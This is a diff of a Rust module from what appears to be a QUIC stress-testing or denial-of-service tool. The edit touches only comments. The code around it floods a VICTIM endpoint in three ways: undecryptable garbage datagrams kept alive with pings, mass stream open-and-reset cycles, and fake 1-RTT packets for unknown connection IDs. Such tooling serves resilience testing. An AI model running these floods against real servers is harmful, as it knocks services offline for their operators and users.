@@ -1,4 +1,4 @@
-//! What is not costly, but much.
+//! Attacks with many cheap packets.
 
 use std::{net::UdpSocket, thread, time::Duration};
 
@@ -10,7 +10,7 @@ use super::{
     peer::{Introduction, Peer, send_batch},
 };
 
-/// Datagrams to one connection that nobody can decrypt.
+/// Datagrams to one connection that cannot be decrypted.
 pub fn garbage() -> Result<Prepared> {
     let introduction = Introduction::of_a_peer(VICTIM)?;
     let mut peer = Peer::dial(&introduction)?;
@@ -20,7 +20,7 @@ pub fn garbage() -> Result<Prepared> {
             let batch: Vec<u8> = (0..BATCH).flat_map(|_| peer.garbage(GARBAGE)).collect();
             peer.send_batch(&batch, GARBAGE as u16);
             run.sent(BATCH, batch.len());
-            // Nothing is said to it, and so nothing keeps it alive.
+            // The garbage does not keep the connection alive, so pings do.
             if run.attacked.datagrams.is_multiple_of(PING_EVERY) {
                 let ping = peer.packet(&[frames::PING]);
                 peer.send(&ping);
@@ -32,7 +32,7 @@ pub fn garbage() -> Result<Prepared> {
     }))
 }
 
-/// Streams that are opened and reset at once, as many as there are.
+/// Streams that are opened and reset at once, as many as permitted.
 pub fn resets() -> Result<Prepared> {
     let mut peer = Peer::dial(&Introduction::of_a_peer(VICTIM)?)?;
     Ok(Box::new(move |run| {
@@ -41,7 +41,7 @@ pub fn resets() -> Result<Prepared> {
         while run.goes_on() && !peer.is_closed {
             let end = peer.max_streams.min(next + PER_PACKET);
             let mut frames = Vec::new();
-            // The victim forgets a stream when its own end of it was heard of.
+            // The victim discards a stream when its own reset is acknowledged.
             peer.acknowledge(&mut frames);
             for index in next..end {
                 frames::stream(&mut frames, 4 * index, 0, &[0]);
@@ -62,7 +62,7 @@ pub fn resets() -> Result<Prepared> {
     }))
 }
 
-/// What looks like 1-RTT packets of connections that do not exist.
+/// Datagrams that look like 1-RTT packets of unknown connections.
 pub fn unknown_ids() -> Result<Prepared> {
     let socket = UdpSocket::bind((OWN, 0))?;
     Ok(Box::new(move |run| {
@@ -73,7 +73,7 @@ pub fn unknown_ids() -> Result<Prepared> {
             for datagram in batch.chunks_mut(UNKNOWN) {
                 datagram[0] = 0x40 | datagram[0] & 0x3f;
             }
-            // What finds no room is lost, as on any network.
+            // Packets without room are lost, as on any network.
             let _ = send_batch(&socket, VICTIM, &batch, UNKNOWN as u16);
             run.sent(BATCH, batch.len());
         }
@@ -84,18 +84,18 @@ pub fn unknown_ids() -> Result<Prepared> {
 /// Datagrams that are sent at once.
 const BATCH: u64 = 45;
 
-/// Bytes of a datagram: as few as a packet has, and one that is answered with a reset.
+/// Bytes of a datagram: small garbage, and the smallest packet that is answered with a reset.
 const GARBAGE: usize = 100;
 const UNKNOWN: usize = 60;
 
-/// A packet without any frame is an error.
+/// Bytes of the smallest packet; a packet without a frame is an error.
 const SMALLEST: usize = 40;
 
 /// Streams in a packet.
 const PER_PACKET: u64 = 80;
 
-/// Datagrams: twice in a second.
+/// A ping after this many datagrams, twice a second.
 const PING_EVERY: u64 = 400 * BATCH;
 
-/// Until there may be more streams.
+/// Time until more streams may be permitted.
 const CREDIT: Duration = Duration::from_micros(200);
